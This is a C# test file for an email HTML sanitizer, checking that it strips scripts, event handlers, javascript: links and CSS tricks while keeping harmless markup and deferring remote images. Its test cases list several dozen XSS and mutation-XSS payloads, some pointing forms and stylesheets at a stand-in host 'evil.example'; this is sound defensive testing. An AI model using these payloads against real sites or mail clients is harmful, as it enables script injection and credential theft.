using Amends.Mail.Html;
using AngleSharp.Html.Parser;

namespace Amends.Mail.Tests.Html;

public sealed class MailHtmlTests
{
    static readonly string[] Elements = ["script", "style", "iframe", "svg", "math", "base", "meta", "link", "form", "input", "object", "embed", "template", "noscript", "textarea", "select", "button", "xmp", "title"];
    static readonly string[] Attributes = ["href", "target", "rel", "src", "data-src", "style", "title", "alt", "width", "height", "colspan", "bgcolor", "border"];

    [Theory]
    [InlineData("<script>alert(1)</script>")]
    [InlineData("<img src=x onerror=alert(1)>")]
    [InlineData("<a href=\"java\tscript:alert(1)\">x</a>")]
    [InlineData("<a href=\" &#1;javascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"&#x6A;avascript&colon;alert(1)\">x</a>")]
    [InlineData("<a href=\"\u00ADjavascript:alert(1)\">x</a>")]
    [InlineData("<a href=\"data:text/html,<script>alert(1)</script>\">x</a>")]
    [InlineData("<a href=vbscript:msgbox>x</a>")]
    [InlineData("<svg><script>alert(1)</script></svg>")]
    [InlineData("<svg><style><img src=x onerror=alert(1)></style></svg>")]
    [InlineData("<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>")]
    [InlineData("<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>")]
    [InlineData("<template><img src=x onerror=alert(1)></template>")]
    [InlineData("<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>")]
    [InlineData("<object data=x><embed src=y></object>")]
    [InlineData("<form action=https://evil.example><input name=password><button formaction=javascript:x>go</button></form>")]
    [InlineData("<base href=https://evil.example><meta http-equiv=refresh content=\"0;url=javascript:x\"><link rel=stylesheet href=x>")]
    [InlineData("<p style=\"background:url(https://evil.example/x)\">x</p>")]
    [InlineData("<p style=\"width:expression(alert(1))\">x</p>")]
    [InlineData("<p style=\"wid\\74h:1px;color:re\\64;background:u\\72l(x)\">x</p>")]
    [InlineData("<p style=\"color:red;/*x*/background:url/**/(x)\">x</p>")]
    [InlineData("<style>@import url(https://evil.example/x.css);</style>")]
    [InlineData("<xmp><img src=x onerror=alert(1)></xmp>x")]
    [InlineData("<textarea><img src=x onerror=alert(1)></textarea>x")]
    [InlineData("<title><img src=x onerror=alert(1)></title>")]
    [InlineData("<!--><img src=x onerror=alert(1)>-->")]
    [InlineData("<![CDATA[<img src=x onerror=alert(1)>]]>")]
    [InlineData("<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">")]
    [InlineData("<img src=\"data:text/html;base64,PHN2Zz4=\">")]
    [InlineData("<img/src=x/onerror=alert(1)//")]
    [InlineData("<div\u000Conclick=alert(1)>x</div>")]
    [InlineData("<select><style></select><img src=x onerror=alert(1)></style>")]
    [InlineData("<table background=javascript:x><td background=javascript:y>x</table>")]
    [InlineData("<a xlink:href=javascript:x href=javascript:y>x</a>")]
    [InlineData("<\0script>alert(1)</\0script>")]
    public void An_attack_leaves_nothing_active(string attack)
    {
        var clean = MailHtml.Clean(attack).Html;
        foreach (var element in new HtmlParser().ParseDocument("<body>" + clean).Body!.QuerySelectorAll("*"))
        {
            Assert.DoesNotContain(element.LocalName, Elements);
            Assert.All(element.Attributes, attribute => Assert.Contains(attribute.Name, Attributes));
            Assert.All(["href", "src", "data-src"], name => Assert.Matches("^(https?:|mailto:|tel:|cid:|data:image/(png|jpeg|gif|webp);base64,|$)", element.GetAttribute(name) ?? ""));
            Assert.DoesNotMatch(@"[\\(@]|url|expression", element.GetAttribute("style") ?? "");
        }
        Assert.Equal(clean, MailHtml.Clean(clean).Html);
    }

    [Theory]
    [InlineData("<p>Hello <b>there</b></p>", "<p>Hello <b>there</b></p>")]
    [InlineData("<p style=\"COLOR: red; position: fixed; margin:0\" class=x id=y>a</p>", "<p style=\"color: red; margin: 0\">a</p>")]
    [InlineData("<a href=https://x.example/?a=1&b=2>x</a>", "<a href=\"https://x.example/?a=1&amp;b=2\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>")]
    [InlineData("<a href=mailto:a@b.example>x</a>", "<a href=\"mailto:a@b.example\" target=\"_blank\" rel=\"noopener noreferrer nofollow\">x</a>")]
    [InlineData("<a href=/local>x</a>", "x")]
    [InlineData("<form>keep <button>this</button></form>", "keep this")]
    [InlineData("<table><tr><td colspan=2 bgcolor=#ffffff>x</td></tr></table>", "<table><tbody><tr><td colspan=\"2\" bgcolor=\"#ffffff\">x</td></tr></tbody></table>")]
    [InlineData("<pre>\n\nx</pre>", "<pre>\n\nx</pre>")]
    [InlineData("1 < 2 & 3", "1 &lt; 2 & 3")]
    [InlineData("https://x.example/?a=1&b=2&lt=3&copy", "https://x.example/?a=1&b=2&lt;=3©")]
    [InlineData("&<i></i>lt; &amp;lt; &a; &ab=1 &", "&amp;<i></i>lt; &amp;lt; &amp;a; &amp;ab=1 &amp;")]
    [InlineData("a<svg><title>t</title><style>s</style><g><text onclick=x>words</text></g></svg>b", "awordsb")]
    [InlineData("<math><mi>x</mi><mo>=</mo><mn>2</mn><annotation>tex</annotation></math>", "x=2")]
    [InlineData("", "")]
    public void Harmless_html_is_kept(string html, string expected) => Assert.Equal(expected, MailHtml.Clean(html).Html);

    [Fact]
    public void Remote_images_are_counted_and_do_not_load()
    {
        var clean = MailHtml.Clean("<img src=https://t.example/p.gif width=1><img src=//t.example/q.png>");
        Assert.Equal(2, clean.RemoteImages);
        Assert.Equal("<img data-src=\"https://t.example/p.gif\" width=\"1\"><img data-src=\"https://t.example/q.png\">", clean.Html);
        Assert.Equal(2, MailHtml.Clean(clean.Html).RemoteImages);
        Assert.Contains("src=\"https://t.example/p.gif\"", MailHtml.Clean(clean.Html, new CleanOptions(ShowRemoteImages: true)).Html, StringComparison.Ordinal);
    }

    [Fact]
    public void Inline_images_are_kept_for_storing_and_addressed_for_showing()
    {
        var stored = MailHtml.Clean("<img src=\"cid:a@x\"><img src=\"CID:b@x\"><img src=\"cid:a@x\">");
        Assert.Equal(["a@x", "b@x"], stored.InlineCids);
        var shown = MailHtml.Clean(stored.Html, new CleanOptions(cid => cid == "a@x" ? "/files/1?s=\"2" : null));
        Assert.Equal("<img src=\"/files/1?s=&quot;2\"><img><img src=\"/files/1?s=&quot;2\">", shown.Html);
        Assert.Equal("<img src=\"data:image/png;base64,AAAA\">", MailHtml.Clean("<img src=\"data:image/png;base64,AA\nAA\">").Html);
    }

    [Fact]
    public void Deep_nesting_is_flattened_and_its_text_kept()
    {
        var html = string.Concat(Enumerable.Repeat("<div>", 800)) + "bottom" + string.Concat(Enumerable.Repeat("</div>", 800));
        var clean = MailHtml.Clean(html).Html;
        Assert.Contains("bottom", clean, StringComparison.Ordinal);
        var deepest = 0;
        var depth = 0;
        foreach (var tag in clean.Split('<'))
        {
            depth += tag.StartsWith("div", StringComparison.Ordinal) ? 1 : tag.StartsWith("/div", StringComparison.Ordinal) ? -1 : 0;
            deepest = Math.Max(deepest, depth);
        }
        Assert.InRange(deepest, 1, 256);
    }

    [Fact]
    public void Html_that_is_not_parsed_gives_text_without_a_NUL()
    {
        var hopeless = "&#0;so it is" + string.Concat(Enumerable.Repeat("<object data=x>", 2000));
        Assert.Equal("so it is", HtmlText.From(hopeless));
        Assert.Equal("so it is", MailHtml.Clean(hopeless).Html);
    }

    [Fact]
    public void Endless_html_is_cut() => Assert.True(MailHtml.Clean(string.Concat(Enumerable.Repeat("<p>x &</p>\n", 400_000))).Html.Length <= 2 * 1024 * 1024);
}
